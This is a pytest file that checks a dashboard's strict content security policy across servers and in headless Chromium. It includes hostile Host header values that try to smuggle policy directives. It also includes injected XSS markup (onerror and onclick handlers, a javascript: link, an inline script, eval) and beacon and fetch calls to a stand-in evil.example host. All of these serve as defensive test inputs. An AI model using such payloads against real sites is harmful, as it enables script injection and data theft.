"""The dashboard's content security policy: every server that serves the dashboard (the site agent, `balsam ui`,
the relay) sends every file of it with a policy that runs only the package's own script files; the shipped page
and bundle need nothing more (no inline script or handler, no code built from strings); and in Chromium every view
works under the policy without one violation, while markup that an injection bug would put in the page (a
`<script>`, an `onerror=`/`onclick=` handler, a `javascript:` link, `eval`, a fetch to another site, a `<style>` or
`style=`) runs, loads and restyles nothing, each refusal reported as a violation.

Run: bash .ci/chromium.sh && pytest tests/test_web_csp.py   (the Chromium tests are marked browser)
"""

from __future__ import annotations

import http.client
import re
from importlib import resources
from typing import Any, Dict, Iterator, List, Tuple

import pytest

from tests.test_web_host import Host
from tests.test_web_hostile import XSS, in_chromium
from tests.web_support import CHROMIUM, REPO, SCREENSHOTS, SERVER_KINDS, Served, serving, watch_csp

STRICT = {"default-src": ["'none'"], "script-src": ["'self'"], "object-src": ["'none'"], "base-uri": ["'none'"],
          "frame-ancestors": ["'none'"], "form-action": ["'none'"]}
"""Directives every dashboard file must carry exactly."""


def _files() -> List[str]:
    """Every file of the built dashboard, as the URL path that serves it."""
    web = resources.files("balsam") / "web"
    return ["/"] + [f"/assets/{entry.name}" for entry in (web / "assets").iterdir()]


def _policy(header: str) -> Dict[str, List[str]]:
    """A Content-Security-Policy header as {directive: sources}; a directive given twice fails the test."""
    out: Dict[str, List[str]] = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            assert words[0] not in out, f"{words[0]} given twice: {header}"
            out[words[0]] = words[1:]
    return out


def _get(port: int, path: str, host: str = "") -> Tuple[int, Dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.putrequest("GET", path, skip_host=True)
        conn.putheader("Host", host or f"127.0.0.1:{port}")
        conn.endheaders()
        answer = conn.getresponse()
        return answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read()
    finally:
        conn.close()


served = pytest.fixture(params=SERVER_KINDS)(serving)


def test_every_server_sends_every_dashboard_file_with_the_strict_policy(served: Served) -> None:
    nonces = set()
    for path in _files() + ["/"]:
        status, headers, body = _get(served.port, path)
        assert status == 200, path
        policy = _policy(headers["content-security-policy"])
        for directive, sources in STRICT.items():
            assert policy.get(directive) == sources, (path, directive, policy.get(directive))
        if path == "/":  # the page's one <style> written at run time (Vuetify's theme) needs this load's nonce
            meta = re.search(rb'<meta name="csp-nonce" content="([A-Za-z0-9_-]{24})" />', body)
            assert meta is not None, body[:400]
            nonces.add(meta.group(1).decode())
            assert policy["style-src"] == ["'self'", f"'nonce-{meta.group(1).decode()}'"]
        else:
            assert policy["style-src"] == ["'self'"], path
        # The page's own server and its WebSocket, nothing else.
        assert set(policy["connect-src"]) == {"'self'", f"ws://127.0.0.1:{served.port}", f"wss://127.0.0.1:{served.port}"}, path
        assert not any(s in ("*", "'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "data:", "blob:")
                       for s in policy["script-src"] + policy["default-src"] + policy["style-src"]), path
        assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff", path
        assert headers["cache-control"] == ("no-cache" if path == "/" else "public, max-age=604800, immutable"), path
    assert len(nonces) == 2  # a new nonce for each load of the page


@pytest.mark.parametrize("host", ["evil.example;script-src *", "x' 'unsafe-inline", "a b", "[::1]:8080; default-src *", "%0d%0a"])
def test_a_hostile_host_header_never_reaches_the_policy(host: str) -> None:
    from balsam.http.ui import start_ui

    server = start_ui(lambda: [])
    try:
        status, headers, _ = _get(server.port, "/", host=host)
    finally:
        server.stop()
    if status == 200:  # (the HTTP layer may refuse the header outright: 400)
        policy = _policy(headers["content-security-policy"])
        assert policy["script-src"] == ["'self'"] and policy["default-src"] == ["'none'"]
        assert policy["connect-src"] == ["'self'"]  # not a plain host[:port]: no address named at all
        assert "evil" not in headers["content-security-policy"] and "unsafe" not in " ".join(policy["script-src"])
    else:
        assert status == 400


def test_the_shipped_page_and_bundle_need_no_inline_script_handler_or_code_from_strings() -> None:
    web = resources.files("balsam") / "web"
    index = (web / "index.html").read_text()
    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", index, re.S)
    assert scripts and all('src="/assets/' in attrs and not body.strip() for attrs, body in scripts), scripts
    assert not re.search(r"\son[a-z]+\s*=", index, re.I) and "javascript:" not in index.lower()
    for entry in (web / "assets").iterdir():
        if not entry.name.endswith(".js"):
            continue
        code = entry.read_text()
        for pattern in (r"(?<![\w$.])eval\s*\(", r"\bnew\s+Function\s*\(", r"(?<![\w$.])Function\s*\(\s*['\"`]",
                        r"\bset(?:Timeout|Interval)\s*\(\s*['\"`]", r"document\.write"):
            found = re.search(pattern, code)
            assert found is None, f"{entry.name}: {code[max(0, found.start() - 60):found.end() + 60] if found else ''}"
    # The sources never render a value as markup (a v-html or innerHTML would make job data code).
    for source in (REPO / "web" / "src").rglob("*"):
        if source.suffix in (".vue", ".js"):
            text = source.read_text()
            assert "v-html" not in text and "innerHTML" not in text and "insertAdjacentHTML" not in text, source


# ------------------------------------------------------------------------------------------------ in Chromium
VIEWS = (("sites", "Sites"), ("jobs", "Jobs"), ("jobs/new", "New job"), ("apps", "Apps"), ("batch-jobs", "BatchJobs"),
         ("transfers", "Transfers"), ("history", "History"), ("dags", "DAGs"))


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tuple[Host, List[int]]]:
    """`balsam ui` serving a site whose jobs hold hostile text in their workdirs, parameters, tags and event messages."""
    h = Host(tmp_path_factory.mktemp("csp"))
    try:
        h.add_site("north")
        h.start_ui()
        app_id = h.api("GET", "/apps")["results"][0]["id"]
        jobs = [{"app_id": app_id, "workdir": f"x{i}", "parameters": {"who": text}, "tags": {"note": text[:200]}}
                for i, text in enumerate(XSS)]
        ids = [int(j["id"]) for j in h.api("POST", "/jobs", jobs)]
        h.api("PUT", f"/jobs?id={ids[0]}", {"state": "USER_KILLED", "state_data": {"message": XSS[0] + XSS[1] + XSS[3]}})
        yield h, ids
    finally:
        h.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True)
        yield b
        b.close()


@pytest.fixture
def tab(browser: Any, shown: Tuple[Host, List[int]]) -> Iterator[Tuple[Any, List[str]]]:
    """A logged-in page, and the list its content security policy violations and JavaScript errors go to."""
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    context.set_default_timeout(60_000)
    seen: List[str] = []
    watch_csp(context, seen)
    page = context.new_page()
    page.on("pageerror", lambda e: seen.append(f"page error: {e}"))
    page.goto(f"{shown[0].base}/#/login?token={shown[0].env['BALSAM_UI_TOKEN']}")
    page.wait_for_function("() => location.hash.startsWith('#/sites')")
    yield page, seen
    context.close()


@in_chromium
def test_every_view_works_under_the_policy_without_a_violation(tab: Tuple[Any, List[str]], shown: Tuple[Host, List[int]]) -> None:
    page, seen = tab
    host, ids = shown
    page.locator("[data-testid=live-status]", has_text="live").wait_for()  # the WebSocket is allowed and connected
    for route, title in VIEWS:
        page.goto(f"{host.base}/#/{route}")
        page.wait_for_function("t => { const h = document.querySelector('h1'); return h && h.textContent.includes(t) }", arg=title)
    page.goto(f"{host.base}/#/jobs")
    page.wait_for_function("n => document.querySelectorAll('[data-testid=jobs-table] tbody tr').length >= n", arg=len(ids))
    page.goto(f"{host.base}/#/jobs/{ids[0]}")  # fields, the timeline with the hostile message, job.out
    page.wait_for_function("() => document.querySelector('[data-testid=timeline]')?.textContent.includes('onerror')")
    assert XSS[0] in page.inner_text("[data-testid=job-fields]")
    page.locator("[data-testid=live-status]", has_text="live").wait_for()
    page.get_by_role("button", name="Log out").click()  # and the login page, where a form is handled by the script
    page.wait_for_function("() => location.hash.startsWith('#/login')")
    page.get_by_label("Token").fill(host.env["BALSAM_UI_TOKEN"])
    page.keyboard.press("Enter")
    page.wait_for_function("() => location.hash.startsWith('#/jobs/')")  # back where it logged out
    page.locator("[data-testid=live-status]", has_text="live").wait_for()
    assert page.evaluate("window.__xss") is None
    assert not seen, seen


INJECTED = """() => {
  const out = {}
  // Markup where the job's fields are shown, as an injection bug would put it there:
  document.querySelector('[data-testid=job-fields]').insertAdjacentHTML('afterbegin', `
    <img id="inj-img" src="/assets/no-such.png" onerror="window.__xss = 'onerror'">
    <button id="inj-click" onclick="window.__xss = 'onclick'">x</button>
    <a id="inj-href" href="javascript:window.__xss = 'href'">y</a>
    <img id="inj-away" src="http://evil.example/beacon.png">
    <object data="/assets/no-such.swf"></object>
    <p id="inj-style" style="color: rgb(255, 0, 0)">z</p>
    <style>body { background: rgb(255, 0, 0) }</style>`)
  const s = document.createElement('script')
  s.textContent = "window.__xss = 'script'"
  document.body.appendChild(s)
  setTimeout("window.__xss = 'timeout'", 0)
  // The page's own code, on a later task (code that Playwright evaluates is itself exempt from the policy):
  return new Promise(done => setTimeout(() => {
    try { eval("window.__xss = 'eval'"); out.eval = 'ran' } catch (e) { out.eval = e.name }
    try { new Function("window.__xss = 'function'")(); out.fn = 'ran' } catch (e) { out.fn = e.name }
    fetch('http://evil.example/steal').then(() => 'sent', e => e.name).then(f => done({...out, fetch: f}))
  }, 0))
}"""


@in_chromium
def test_markup_an_injection_would_put_in_the_page_runs_and_loads_nothing(tab: Tuple[Any, List[str]],
                                                                          shown: Tuple[Host, List[int]]) -> None:
    """As if a bug let job data into the page as markup: every way it could run or send something is refused by
    the policy and reported."""
    page, seen = tab
    host, ids = shown
    page.goto(f"{host.base}/#/jobs/{ids[0]}")
    page.wait_for_function("() => document.querySelector('[data-testid=timeline]')?.textContent.includes('onerror')")
    away: List[Tuple[str, str]] = []  # (address, why it failed) of each request for another address
    page.on("requestfinished", lambda r: away.append((r.url, "sent")) if not r.url.startswith(host.base) else None)
    page.on("requestfailed", lambda r: away.append((r.url, r.failure or "")) if not r.url.startswith(host.base) else None)
    out = page.evaluate(INJECTED)
    assert out == {"eval": "EvalError", "fn": "EvalError", "fetch": "TypeError"}
    page.click("#inj-click")
    page.click("#inj-href")
    page.wait_for_function("n => document.querySelectorAll('#inj-img, #inj-away').length === n", arg=2)
    page.wait_for_timeout(500)  # let the image error, timer and clicks happen (or not)
    assert page.evaluate("window.__xss") is None
    assert page.evaluate("getComputedStyle(document.querySelector('#inj-style')).color") != "rgb(255, 0, 0)"
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    # Neither the image nor the fetch left for another address: the browser stopped each on the policy (not the
    # network: this host may have none).
    assert away and all(why == "csp" for _, why in away), away
    refused = " ".join(seen)
    for directive in ("script-src-elem", "script-src-attr", "script-src", "img-src", "connect-src", "object-src", "style-src-attr",
                      "style-src-elem"):
        assert f"CSP violation: {directive} " in refused, (directive, seen)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "csp-injected.png"), full_page=True)
